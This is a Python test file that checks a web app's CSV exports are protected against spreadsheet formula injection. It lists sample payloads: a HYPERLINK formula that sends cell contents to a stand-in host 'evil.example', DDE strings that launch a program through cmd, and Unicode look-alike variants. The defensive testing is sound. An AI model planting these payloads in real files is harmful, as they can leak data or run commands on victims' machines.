"""Every CSV the site writes is safe to open in a spreadsheet (OWASP CSV injection): the access package, the journal
export, the record of processing, the consent proof and the audience files never start a cell with a formula."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from app.audiences.services import PLATFORMS, write_file
from app.backoffice.audit import add_read
from app.backoffice.models import Read
from app.consent.models import ConsentRecord
from app.extensions import db
from app.rights.package import csv_text
from app.spreadsheet import FORMULA_START, PLAIN_NUMBER, safe_cell

PAYLOADS = ['-1+HYPERLINK("http://evil.example/?x="&A1)', '=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(\"http://evil.example\")",
            "\uff0b1\uff0b1", "\uff0d1+1", "\uff20SUM(A1)"]


def opens_as_a_formula(cell: str) -> bool:
    """Whether a spreadsheet would take this cell for a formula."""
    return cell[:1] in FORMULA_START and not PLAIN_NUMBER.fullmatch(cell)


@given(st.text())
def test_no_cell_starts_a_formula_and_nothing_is_lost(text):
    cell = safe_cell(text)
    assert not opens_as_a_formula(cell)
    assert cell in (text, "'" + text)


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_package_csv_read_back_holds_no_formula(values):
    rows = list(csv.reader(io.StringIO(csv_text([{"c": value} for value in values]).removeprefix("\ufeff"),
                                       newline=""), delimiter=";"))
    assert not any(opens_as_a_formula(cell) for row in rows for cell in row)


def test_the_attack_payloads_are_neutralised_and_numbers_kept():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert [safe_cell(value) for value in ("+33612345678", "-3", "-2.5", "Jeanne", None)] == [
        "+33612345678", "-3", "-2.5", "Jeanne", ""]


def test_the_access_package_csv(app):
    text = csv_text([{"message": payload} for payload in PAYLOADS])
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert [row["message"] for row in rows] == ["'" + payload for payload in PAYLOADS]


def test_the_journal_export(app, runner):
    add_read("agent@k-inventory.com", Read.REQUEST, PAYLOADS[0])
    db.session.commit()
    rows = list(csv.DictReader(io.StringIO(runner.invoke(args=["audit", "export", "--since", "2020-01-01"]).output)))
    assert rows[0]["target"] == "'" + PAYLOADS[0]


def test_the_consent_proof_export(app, runner):
    db.session.add(ConsentRecord(consent_id="c1", choices={}, register_version="1", action="save", source="banner",
                                 channel="web", browser=PAYLOADS[2]))
    db.session.commit()
    rows = list(csv.DictReader(io.StringIO(runner.invoke(args=["consent", "export"]).output)))
    assert rows[0]["browser"] == "'" + PAYLOADS[2]


def test_the_audience_file(app, tmp_path):
    out = tmp_path / "audience.csv"
    write_file(out, PLATFORMS["google"], [(PAYLOADS[1], "+33612345678")])
    rows = list(csv.reader(io.StringIO(out.read_text(), newline="")))
    assert rows == [["Email", "Phone"], ["'" + PAYLOADS[1], "+33612345678"]]
